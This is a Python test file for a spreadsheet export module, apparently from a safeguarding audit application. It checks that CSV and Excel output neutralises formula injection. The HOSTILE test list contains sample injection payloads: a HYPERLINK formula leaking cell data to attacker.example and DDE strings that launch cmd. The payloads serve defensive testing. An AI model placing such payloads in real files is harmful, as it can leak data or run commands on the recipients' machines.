"""Exports: a value that a spreadsheet would run as a formula is written as
text, in CSV and in Excel, and read back as text by the same readers a
partnership would open the file with."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from maca.core import exports
from maca.core.exports import Table, check_size, csv_lines, download, filename_for, neutralise, write_xlsx

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_table() -> Table:
    return Table(
        "Hostile =cells",
        ["=Heading", "Number", "Date"],
        [[value, -3, dt.date(2027, 3, 7)] for value in HOSTILE],
    )


def read_csv(tables) -> list[list[str]]:
    text = "".join(csv_lines(tables))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(tables) -> io.BytesIO:
    target = io.BytesIO()
    write_xlsx(tables, target)
    target.seek(0)
    return target


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_would_be_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Police", "3 of 35 (9%)", "Case 1 - police", "a=b", "", "'quoted"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


def test_no_formula_survives_in_a_csv_file():
    rows = read_csv([hostile_table()])
    assert rows[0] == ["'=Heading", "Number", "Date"]
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] == "'" + value
        assert row[1:] == ["-3", "2027-03-07"]  # a negative number is a number, a date is ISO 8601
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or cell == "-3"


def test_no_formula_survives_in_a_workbook_read_back_by_openpyxl():
    sheet = load_workbook(read_xlsx([hostile_table()])).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["'=Heading", "Number", "Date"]
    for row, value in zip(values[1:], HOSTILE, strict=True):
        assert row[0] == "'" + value
        assert row[1] == -3
        assert row[2] == dt.datetime(2027, 3, 7)
    assert sheet.freeze_panes == "A2"


def test_no_formula_survives_in_a_workbook_read_back_by_calamine():
    workbook = CalamineWorkbook.from_filelike(read_xlsx([hostile_table()]))
    rows = workbook.get_sheet_by_index(0).to_python()
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] == "'" + value
        assert row[1] == -3
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS))


def test_a_text_subclass_or_a_bare_formula_is_still_written_as_text():
    class Sneaky(str):
        pass

    sheet = load_workbook(read_xlsx([Table("T", ["A"], [[Sneaky("=1+1")]])])).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'=1+1"


def test_a_text_that_looks_like_an_error_value_stays_text():
    sheet = load_workbook(read_xlsx([Table("T", ["A"], [["#N/A"], ["#REF!"]])])).active
    assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [("#N/A", "s"), ("#REF!", "s")]


def test_characters_a_workbook_cannot_hold_are_dropped_before_the_check():
    # "\x01=1+1" would become "=1+1" once the control character is dropped.
    assert neutralise("\x01=1+1") == "'=1+1"
    sheet = load_workbook(read_xlsx([Table("T", ["A"], [["a\x00b\x1fc"]])])).active
    assert sheet["A2"].value == "abc"


def test_cells_of_every_kind():
    moment = dt.datetime(2027, 3, 7, 9, 30, tzinfo=dt.UTC)
    table = Table(
        "Kinds", ["Text", "Int", "Float", "Yes", "No", "Empty", "When"], [["a", 1, 2.5, True, False, None, moment]]
    )
    assert read_csv([table])[1] == ["a", "1", "2.5", "Yes", "No", "", "2027-03-07 09:30:00"]
    sheet = load_workbook(read_xlsx([table])).active
    assert [cell.value for cell in sheet[2]] == ["a", 1, 2.5, "Yes", "No", None, dt.datetime(2027, 3, 7, 9, 30)]
    assert moment.astimezone(ZoneInfo("Europe/London")).hour == 9  # March: UK time is UTC


def test_several_tables_each_have_a_titled_sheet_or_section():
    long_title = "Was the child's lived experience recorded and acted on in every plan?"
    tables = [
        Table("Returns received", ["Agency", "Received"], [["Police", 3]]),
        Table(long_title, ["Agency", "Yes"], [["Police", 1]]),
        Table(long_title, ["Agency", "Yes"], [["Health", 2]]),
    ]
    rows = read_csv(tables)
    assert rows[:3] == [["Returns received"], ["Agency", "Received"], ["Police", "3"]]
    assert rows[3] == [] and rows[4] == [long_title]
    workbook = load_workbook(read_xlsx(tables))
    names = workbook.sheetnames
    assert names[0] == "Returns received"
    assert len(names[1]) <= 31 and len(names[2]) <= 31 and names[1] != names[2]
    assert workbook[names[1]]["A1"].value == long_title
    assert workbook[names[1]]["A2"].value == "Agency" and workbook[names[1]].freeze_panes == "A3"


def test_sheet_names_excel_refuses_are_made_acceptable():
    used: set[str] = set()
    assert exports._sheet_title("Audit: [2026/27]?", used) == "Audit 2026-27"
    assert exports._sheet_title("", used) == "Sheet"


def test_a_table_too_long_for_a_spreadsheet_is_refused(monkeypatch):
    assert check_size(10, "xlsx") is None
    assert "Narrow the filters" in check_size(exports.XLSX_MAX_ROWS + 1, "xlsx")
    assert check_size(exports.XLSX_MAX_ROWS + 1, "csv") is None
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    with pytest.raises(exports.TooManyRows):
        write_xlsx([Table("T", ["A"], [[1], [2], [3]])], io.BytesIO())


def test_a_csv_download_streams_from_a_generator():
    read = []

    def rows():
        for number in range(1000):
            read.append(number)
            yield [number]

    response = download(Table("T", ["N"], rows()), fmt="csv", filename="numbers.csv")
    assert response.streaming and not read  # nothing read until the response is sent
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="numbers.csv"'
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.count("\r\n") == 1001 and len(read) == 1000


def test_a_workbook_download_is_a_file():
    response = download(hostile_table(), fmt="xlsx", filename="hostile.xlsx")
    content = b"".join(response.streaming_content)
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert 'filename="hostile.xlsx"' in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "'=1+1"
    with pytest.raises(ValueError, match="Unknown export format"):
        download(hostile_table(), fmt="ods", filename="x.ods")


def test_file_names_say_what_and_when():
    assert filename_for("responses", "Neglect: babies & 'toddlers'", fmt="xlsx", on=dt.date(2027, 3, 7)) == (
        "responses-neglect-babies-toddlers-2027-03-07.xlsx"
    )


def test_a_long_table_title_names_its_sheet_in_whole_words():
    from openpyxl import load_workbook

    long = "How well did the agency understand the child's daily life?"
    tables = [Table(long, ["A"], [["x"]]), Table(long, ["A"], [["y"]]), Table("Short", ["A"], [["z"]])]
    names = load_workbook(read_xlsx(tables)).sheetnames
    assert names == ["How well did the agency…", "How well did the agency… (2)", "Short"]
    assert all(len(name) <= 31 for name in names)
